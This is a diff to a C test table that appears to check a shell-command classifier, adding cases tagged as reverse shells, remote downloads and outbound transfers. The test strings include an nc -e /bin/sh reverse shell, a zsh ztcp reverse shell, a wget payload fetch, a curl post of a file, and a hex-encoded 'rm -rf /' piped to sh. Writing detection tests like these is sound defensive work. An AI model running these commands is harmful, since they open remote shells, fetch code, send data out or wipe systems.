@@ -377,6 +377,11 @@ static const struct kase class_cases[] = {
     {"eval $x$y", OB},
     {"xxd -r -p <<< 726d202d7266202f | sh", OB | DD},
     {"zcat payload.gz | bash", OB},
+    /* commands as depsim ingest leaves them: addresses replaced by placeholders */
+    {"nc -e /bin/sh <IP_1> 4242", RV},
+    {"zsh -c 'zmodload zsh/net/tcp && ztcp <IP_1> 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", RV},
+    {"wget http://<IP_2>/payload -O payload", RD},
+    {"curl -d @notes.txt https://example.com/<EMAIL_1>", OT},
 };
 
 /* everyday commands that must stay clean */
